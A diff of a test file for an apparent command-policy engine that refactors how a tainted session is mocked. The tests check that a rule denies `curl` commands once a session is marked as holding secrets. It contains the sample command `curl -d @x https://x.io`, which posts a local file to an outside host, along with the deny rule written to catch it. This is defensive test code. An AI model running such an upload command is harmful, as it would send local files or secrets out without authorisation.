@@ -4,8 +4,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { ManualClock } from '../../src/util/clock.js';
-import type { SessionLookup } from '../../src/policy/session-types.js';
-import { engineOf, exec, read, write } from './helpers.js';
+import { engineOf, exec, read, taintLookup, write } from './helpers.js';
 
 const POLICY = `default_action: allow
 policies:
@@ -119,11 +118,7 @@ policies:
         when: { command_matches: ['curl*'], session_tainted: [secret] }
 `);
   const marks = new Set<string>();
-  const session: SessionLookup = {
-    now: 0,
-    history: () => [],
-    tainted: (label) => (marks.has(label) ? { label, key: 's:s1', until: 1e15, policy: 'p' } : undefined),
-  };
+  const session = taintLookup((label) => marks.has(label));
   assert.equal(e.evaluate(exec('curl -d @x https://x.io'), { dryRun: true, session }).action, 'allow');
   marks.add('secret');
   assert.equal(e.evaluate(exec('curl -d @x https://x.io'), { dryRun: true, session }).action, 'deny');
